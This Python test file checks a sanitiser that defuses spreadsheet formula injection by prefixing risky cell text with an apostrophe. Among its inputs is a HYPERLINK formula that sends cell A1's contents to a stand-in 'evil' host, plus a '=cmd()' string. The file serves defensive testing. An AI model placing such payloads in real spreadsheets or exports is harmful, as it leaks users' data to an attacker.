import pytest

from workflows.services.spreadsheets import harmless, harmless_lines


@pytest.mark.parametrize(
    "text", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\tA1", "\rA1", "\nA1", " =1", "＝1+1", "+82-2-1", "-inf", "=-3"]
)
def test_a_text_that_begins_as_a_formula_does_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "given"),
    [
        ('x;=HYPERLINK("http://evil/?"&A1)', 'x;\'=HYPERLINK("http://evil/?"&A1)'),
        ('x; "=1+1', "x; \"'=1+1"),
        ("a\n=1;@b\t-c", "a\n'=1;'@b\t'-c"),
        ("=1;=2", "'=1;'=2"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_a_formula_behind_what_separates_cells_elsewhere_gets_one_too(text: str, given: str) -> None:
    assert harmless(text) == given


def test_a_text_of_separators_alone_is_read_once() -> None:
    text = "\t;  " * 250_000
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-3", "+82", "-3.5e2", "a=1", "a; b-c", "a;b=1", "", "사람", 3, -3.5, None])
def test_numbers_and_other_texts_stay(value: object) -> None:
    assert harmless(value) == value


def test_no_line_and_no_part_behind_a_tab_is_a_formula() -> None:
    assert harmless_lines(["=cmd()", "loss\t=1", "epoch 1"]) == "'=cmd()\nloss    =1\nepoch 1\n"
